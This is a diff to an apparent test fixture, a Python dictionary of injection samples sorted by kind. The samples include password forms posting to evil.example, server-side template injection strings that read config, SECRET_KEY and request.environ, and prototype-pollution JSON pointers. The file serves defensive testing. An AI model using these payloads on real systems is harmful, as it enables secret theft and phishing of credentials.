@@ -42,6 +42,7 @@ KINDS = {
     "log-in form of another site": ['<form action="https://evil.example"><input type=password name=p><input type=submit>', "<form method=post action=//evil.example/x>Log in: <input name=p type='password'></form>"],
     "object of a template engine": ["{%set x=lipsum%}{{x}}", "{%for i in cycler.mro()%}{{i}}{%endfor%}", "{%if joiner.mro()%}{{x}}{%endif%}", "{%for i in g%}{{i}}{%endfor%}", "{{ current_app.config }}", "{%- set z = namespace -%}{{ z }}"],
     "expression that is not escaped": ["{{!locals()}}", "{{!9**9**9}}", "{{!_env}}", "{{!x.__class__}}", "{{! help() }}", "{{![x for x in _env]}}", "a{{!vars(request)}}b"],
+    "settings in a template of any text": ["FROM python:3\nRUN {{config.items()}}\nCMD [\"x\"]", '  File "{{config.SECRET_KEY}}", line 1, in f', "the log says {{request.environ}} here"],
     "JSON pointer to a prototype": ["/constructor/prototype/admin", "/a/constructor/prototype/x", "/__proto__/x"],
 }  # fmt: skip
 
